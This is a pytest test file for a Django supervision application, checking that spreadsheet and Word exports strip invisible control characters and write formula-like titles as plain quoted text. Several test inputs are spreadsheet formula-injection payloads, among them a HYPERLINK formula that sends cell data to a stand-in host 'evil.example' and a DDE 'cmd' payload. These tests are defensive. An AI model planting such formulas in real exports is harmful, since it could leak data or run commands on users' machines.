"""Exports and documents render whatever is stored: invisible characters and formula-like text included."""

import io

import docx
import openpyxl
import pytest
from django.urls import reverse

from documents.xlsx import Column, ledger_bytes
from supervision.models import Matter

# PostgreSQL cannot store NUL at all; every other C0 character it stores as given.
WORD_PASTE = "第一行\x0b第二行\x0c第三行\x01\x1f末尾"


def _export(client) -> openpyxl.worksheet.worksheet.Worksheet:
    response = client.get(reverse("supervision:matter_export"))
    assert response.status_code == 200
    return openpyxl.load_workbook(io.BytesIO(response.getvalue())).active


def _column(sheet, header: str) -> int:
    return next(cell.column for cell in sheet[1] if cell.value == header)


def test_matter_list_exports_although_a_stored_title_holds_words_control_characters(client_for, initiated_matter):
    # given a matter stored before input was checked, its title pasted from Word
    matter = initiated_matter()
    Matter.objects.filter(pk=matter.pk).update(title=WORD_PASTE, results="成效\x0b显著")
    # when the inspector exports the list
    sheet = _export(client_for("inspector"))
    # then the row is there, line breaks kept as newlines and the rest of the invisible characters gone
    assert sheet.cell(row=2, column=_column(sheet, "事项名称")).value == "第一行\n第二行\n第三行末尾"
    assert sheet.cell(row=2, column=_column(sheet, "工作成效")).value == "成效\n显著"


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_formula_typed_as_a_title_is_exported_as_text(client_for, initiated_matter, title):
    # given a matter whose title would be a formula in a spreadsheet (stored as typed, leading tab or CR kept)
    Matter.objects.filter(pk=initiated_matter().pk).update(title=title)
    # when it is exported
    sheet = _export(client_for("inspector"))
    # then the cell holds the text, typed as a string with Excel's quote prefix, not a formula
    cell = sheet.cell(row=2, column=2)
    assert cell.value == title
    assert cell.data_type == "s"
    assert cell.quotePrefix


def test_plain_text_and_dates_keep_their_types_in_the_export(client_for, initiated_matter):
    # given an ordinary matter
    matter = initiated_matter(title="落实整改")
    # when it is exported
    sheet = _export(client_for("inspector"))
    # then text is text without a quote prefix, and the due date is a date cell
    assert sheet.cell(row=2, column=2).value == "落实整改"
    assert not sheet.cell(row=2, column=2).quotePrefix
    due = sheet.cell(row=2, column=_column(sheet, "应办结日期"))
    assert due.value.date() == matter.due_date
    assert due.data_type == "d"


def test_the_shared_ledger_writer_never_writes_a_formula():
    # given values of every kind, formula-like text and control characters among them
    columns = [Column("甲", 10), Column("乙", 10, "number"), Column("丙", 10), Column("丁", 10)]
    rows = [["标题", 1, "=1+1", "@x"], [3, None, "=A1", "\x0bx\x00"]]
    # when they are written through the shared ledger writer
    content = ledger_bytes(sheet_title="测试", columns=columns, rows=rows)
    # then they land one under the other below the header, and nothing read back is a formula
    back = openpyxl.load_workbook(io.BytesIO(content)).active
    assert [[c.value for c in row] for row in back.iter_rows()] == [
        ["甲", "乙", "丙", "丁"],
        ["标题", 1, "=1+1", "@x"],
        [3, None, "=A1", "\nx"],
    ]
    assert all(c.data_type != "f" for row in back.iter_rows() for c in row)
    assert back["C2"].quotePrefix and back["D2"].quotePrefix and not back["A2"].quotePrefix


def test_decision_and_slip_documents_open_although_stored_text_holds_control_characters(client_for, org, issued_slip):
    from supervision import services
    from supervision.models import Slip

    # given a slip whose matter, requirements and feedback were stored with Word's invisible characters
    slip = issued_slip()
    Matter.objects.filter(pk=slip.matter_id).update(title=WORD_PASTE, requirements="要求\x0b一\x02")
    Slip.objects.filter(pk=slip.pk).update(requirements="督办\x0c要求")
    slip = services.acknowledge_slip(actor=org["prosecutor1"], slip=slip)
    feedback = services.submit_feedback(actor=org["prosecutor1"], slip=slip, text="反馈", files=[])
    type(feedback).objects.filter(pk=feedback.pk).update(text="反馈\x01内容")
    inspector = client_for("inspector")
    # when the inspector downloads both documents
    decision = inspector.get(reverse("supervision:matter_decision_docx", args=[slip.matter_id]))
    slip_doc = inspector.get(reverse("supervision:slip_document", args=[slip.pk]))
    # then both open, with the text minus the invisible characters
    assert decision.status_code == 200 and slip_doc.status_code == 200
    decision_text = _docx_text(decision.content)
    assert "第一行" in decision_text and "末尾" in decision_text and "要求" in decision_text
    slip_text = _docx_text(slip_doc.content)
    assert "督办" in slip_text and "反馈内容" in slip_text
    assert not any(ch in decision_text + slip_text for ch in "\x00\x01\x0b\x0c\x1f")


def _docx_text(content: bytes) -> str:
    document = docx.Document(io.BytesIO(content))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([p.text for p in document.paragraphs] + cells)


def test_imported_case_names_lose_invisible_characters():
    from cases.sheets import cell_text

    # given a cell of the case system's export with Word's line break and a NUL
    # when it is read
    # then the text is what a reader sees
    assert cell_text(" 张某\x0b盗窃案\x00 ") == "张某\n盗窃案"
